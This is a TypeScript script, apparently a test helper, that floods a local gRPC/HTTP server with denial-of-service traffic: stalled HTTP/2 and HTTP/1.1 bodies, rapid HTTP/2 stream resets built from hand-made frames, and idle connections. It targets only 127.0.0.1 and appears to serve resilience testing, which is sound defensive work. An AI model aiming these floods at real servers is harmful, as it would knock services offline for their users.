import { once } from "node:events";
import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";

/**
 * `node flood-process.ts <flood> <port>`: attacks 127.0.0.1 until it is killed. It has neither token nor certificate.
 */
const MIB = 1_048_576;
const CHECK = "/grpc.health.v1.Health/Check";
const AGAIN_AFTER_MS = 250;
/** Another host than the good caller's. */
const ATTACKER = "127.0.0.9";

const floods: Readonly<Record<string, (port: number) => void>> = {
	"unfinished bodies over HTTP/2": (port) =>
		keepUp(1, () => unfinishedStreams(port, 100)),
	"unfinished bodies over HTTP/1.1": (port) =>
		keepUp(60, () => unfinishedRequest(port)),
	"streams that are reset": (port) => keepUp(40, () => resets(port, 3_000)),
	"silent connections": (port) => keepUp(1_000, () => silent(port)),
	"connections that send nothing": (port) => keepUp(1_000, () => mute(port)),
};

/** So many at a time; each begins again soon after it has ended. */
function keepUp(count: number, attack: () => Promise<void>): void {
	for (let nth = 0; nth < count; nth++)
		void (async () => {
			for (;;) {
				await attack().catch(() => undefined);
				await delay(AGAIN_AFTER_MS);
			}
		})();
}

async function unfinishedStreams(port: number, streams: number) {
	const session = connectHttp2(`http://127.0.0.1:${port}`, {
		createConnection: () => open(port),
	});
	session.on("error", () => undefined);
	const headers = {
		":method": "POST",
		":path": CHECK,
		"content-type": "application/grpc",
		te: "trailers",
	};
	for (let nth = 0; nth < streams; nth++) {
		const stream = session.request(headers);
		stream.on("error", () => undefined).resume();
		stream.write(Buffer.alloc(8 * MIB - 1));
	}
	await once(session, "close");
}

async function unfinishedRequest(port: number) {
	const socket = open(port);
	socket.write(
		`POST ${CHECK} HTTP/1.1\r\nhost: a\r\ncontent-type: application/proto\r\ncontent-length: ${8 * MIB}\r\n\r\n`,
	);
	socket.write(Buffer.alloc(8 * MIB - 1));
	await once(socket.resume(), "close");
}

async function resets(port: number, count: number) {
	const socket = open(port).resume();
	socket.write(PREFACE);
	const batch = 100;
	for (let nth = 0; nth < count && socket.writable; nth += batch) {
		const frames = Array.from({ length: batch }, (_, at) => {
			const stream = (nth + at) * 2 + 1;
			return Buffer.concat([
				frame(1, 4, stream, CHECK_HEADERS),
				frame(3, 0, stream, Buffer.from([0, 0, 0, 8])),
			]);
		});
		if (!socket.write(Buffer.concat(frames)))
			await Promise.race([once(socket, "drain"), once(socket, "close")]);
	}
	socket.end();
	if (!socket.closed) await once(socket, "close");
}

async function silent(port: number) {
	const socket = open(port);
	socket.write(PREFACE);
	await once(socket.resume(), "close");
}

async function mute(port: number) {
	await once(open(port).resume(), "close");
}

function open(port: number): Socket {
	const to = { host: "127.0.0.1", port, localAddress: ATTACKER };
	return connect(to).on("error", () => undefined);
}

function frame(type: number, flags: number, stream: number, payload: Buffer) {
	const head = Buffer.alloc(9);
	head.writeUIntBE(payload.length, 0, 3);
	head.writeUInt8(type, 3);
	head.writeUInt8(flags, 4);
	head.writeUInt32BE(stream, 5);
	return Buffer.concat([head, payload]);
}

/** A field without indexing whose name is in the static table (RFC 7541, 6.2.2). */
function field(name: readonly number[], value: string): Buffer {
	return Buffer.concat([
		Buffer.from([...name, value.length]),
		Buffer.from(value),
	]);
}

const PREFACE = Buffer.concat([
	Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
	frame(4, 0, 0, Buffer.alloc(0)),
]);
/** POST, http, and path, authority and content type in full. */
const CHECK_HEADERS = Buffer.concat([
	Buffer.from([0x83, 0x86]),
	field([0x04], CHECK),
	field([0x01], "a"),
	field([0x0f, 0x10], "application/grpc"),
]);

const [name = "", port] = process.argv.slice(2);
floods[name]?.(Number(port));
process.send?.("begun");
